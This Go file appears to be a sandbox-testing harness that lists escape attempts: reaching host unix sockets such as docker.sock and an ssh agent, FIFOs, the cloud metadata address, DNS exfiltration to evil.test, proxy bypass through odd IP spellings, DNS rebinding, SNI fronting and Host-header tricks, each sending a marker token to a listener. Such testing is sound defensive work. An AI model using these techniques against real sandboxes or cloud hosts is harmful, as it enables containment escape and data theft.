package main

import (
	"net"
	"os"
	"path/filepath"
	"syscall"
)

// sockets reach for unix sockets that somebody outside serves.
func sockets() []attack {
	const group = "unix sockets"
	at := func(network, path string) func(*attempt) error {
		return func(a *attempt) error { return a.serve(network, a.replace(path)) }
	}
	list := []attack{
		{name: "docker.sock in the workspace", setup: at("unix", "{WS}/docker.sock"), script: "{A} unix {WS}/docker.sock {TOKEN}", tell: "docker.sock"},
		{name: "one three directories down", setup: at("unix", "{WS}/a/b/db.sock"), script: "{A} unix {WS}/a/b/db.sock {TOKEN}"},
		{name: "one in HOME", setup: at("unix", "{HOME}/agent.sock"), script: "{A} unix {HOME}/agent.sock {TOKEN}"},
		{name: "the ssh agent, in /tmp", setup: at("unix", "{TMP}/agent.1"), script: "{A} unix {TMP}/agent.1 {TOKEN}"},
		{name: "one in /run", needs: rooted, setup: at("unix", "/run/{TOKEN}.sock"), script: "{A} unix /run/{TOKEN}.sock {TOKEN}"},
		{name: "through a link, and /proc/self/root", setup: at("unix", "{WS}/docker.sock"), script: "ln -s {WS}/docker.sock l; {A} unix l {TOKEN}; {A} unix /proc/self/root{WS}/docker.sock {TOKEN}"},
		{name: "an abstract one", setup: at("unix", "@{TOKEN}"), script: "{A} unix @{TOKEN} {TOKEN}"},
		{
			name: "one made after the start", script: "echo READY; for i in 1 2 3 4 5 6 7 8; do sleep 0.1; {A} unix {WS}/late.sock {TOKEN}; done",
			during: func(a *attempt) { a.fail(at("unix", "{WS}/late.sock")(a)) },
		},
		{name: "datagrams to one", setup: at("unixgram", "{WS}/log.sock"), script: "{A} unixgram {WS}/log.sock {TOKEN}"},
		{
			name: "datagrams to one made after the start", script: "echo READY; for i in 1 2 3 4 5 6 7 8; do sleep 0.1; {A} unixgram {WS}/late.sock {TOKEN}; done",
			during: func(a *attempt) { a.fail(at("unixgram", "{WS}/late.sock")(a)) }, documented: "A datagram socket that somebody outside binds after the start",
		},
		{name: "a FIFO in the workspace", setup: fifo("{WS}/fifo"), script: "{A} fifo {WS}/fifo {TOKEN}"},
		{name: "a FIFO deeper down", setup: fifo("{WS}/a/b/fifo"), script: "{A} fifo {WS}/a/b/fifo {TOKEN}", documented: "One deeper in it, in HOME, or made later reaches whoever reads it outside"},
	}
	for i := range list {
		list[i].group, list[i].check = group, hears
	}
	return list
}

// fifo makes one that somebody outside reads.
func fifo(path string) func(*attempt) error {
	return func(a *attempt) error {
		name := a.replace(path)
		if err := syscall.Mkfifo(name, 0o666); err != nil {
			return err
		}
		f, err := os.OpenFile(name, os.O_RDWR, 0)
		if err != nil {
			return err
		}
		a.atEnd(func() { f.Close() })
		go a.lab.hear(f)
		return os.Chown(name, a.uid, a.gid)
	}
}

// serve listens for the attempt's length and hears what is sent.
func (a *attempt) serve(network, path string) error {
	if network == "unixgram" {
		c, err := net.ListenPacket(network, path)
		if err != nil {
			return err
		}
		a.atEnd(func() { c.Close() })
		go a.lab.hearPackets(c, nil)
		return os.Chmod(path, 0o777)
	}
	if path[0] != '@' {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
	}
	l, err := net.Listen(network, path)
	if err != nil {
		return err
	}
	a.atEnd(func() { l.Close() })
	go a.lab.accept(l, "")
	if path[0] == '@' {
		return nil
	}
	return os.Chmod(path, 0o777)
}

// networks go past the gate, or make the gate go where it should not.
func networks() []attack {
	const group = "network"
	list := []attack{
		{name: "TCP to an address", needs: lab, script: "{A} tcp 203.0.113.7:8080 {TOKEN}", tell: "203.0.113.7"},
		{name: "UDP to an address", needs: lab, script: "{A} udp 203.0.113.7:9999 {TOKEN}", tell: "203.0.113.7"},
		{name: "raw IP packets", needs: lab + rooted, script: "{A} raw 203.0.113.7 {TOKEN}"},
		{name: "the metadata address", needs: lab, script: "{A} tcp 169.254.169.254:80 {TOKEN}", tell: "169.254.169.254"},
		{name: "a service of this machine's loopback", script: "{A} tcp 127.0.0.1:{PORT} {TOKEN}"},
		{name: "the same through the sandbox's proxy", script: "{A} via \"$HTTP_PROXY\" 127.0.0.1:{PORT} {TOKEN}", tell: "127.0.0.1"},
		{name: "an address through the sandbox's proxy", needs: lab, script: "{A} via \"$HTTP_PROXY\" 203.0.113.7:8080 {TOKEN}", tell: "203.0.113.7"},
		{name: "an address in another spelling, through the proxy", needs: lab, script: "for h in 0xcb.0.113.7 3405803783 '[::ffff:203.0.113.7]' 203.0.113.7.; do {A} via \"$HTTP_PROXY\" $h:8080 {TOKEN}; done; {A} tcp 203.0.113.7:8080 {TOKEN}x", check: heardVia},
		{name: "DNS as a channel, system resolver", needs: lab, script: "{A} lookup {TOKEN}.evil.test", tell: ".evil.test"},
		{name: "DNS as a channel, own packets", needs: lab, script: "{A} dns 203.0.113.53:53 {TOKEN}.evil.test"},
		{name: "an allowed name that resolves to the metadata address", needs: lab, script: "{A} via \"$HTTP_PROXY\" rebind.test:80 {TOKEN}", tell: "rebind.test"},
		{name: "an allowed name with another SNI (fronting)", needs: lab, script: "{A} sni \"$HTTP_PROXY\" allowed.test:443 {TOKEN}.test", tell: "allowed.test"},
		{name: "an allowed name with another Host", needs: lab, script: "{A} host \"$HTTP_PROXY\" allowed.test {TOKEN}.test", tell: "allowed.test"},
		{name: "no TLS and no HTTP to an allowed name's port 443", needs: lab, script: "{A} via \"$HTTP_PROXY\" allowed.test:443 {TOKEN}", tell: "allowed.test"},
		{name: "an allowed name at another port", needs: lab, script: "{A} via \"$HTTP_PROXY\" allowed.test:22 {TOKEN}", tell: "allowed.test"},
	}
	for i := range list {
		list[i].group = group
		if list[i].check == nil {
			list[i].check = hears
		}
	}
	return list
}

// heardVia is hears; without a proxy odd spellings reach nothing, and a plain one stands for them.
func heardVia(a *attempt) bool {
	if a.who.name == without {
		return a.lab.heard(a.token + "x")
	}
	return a.lab.heard(a.token + "\n")
}
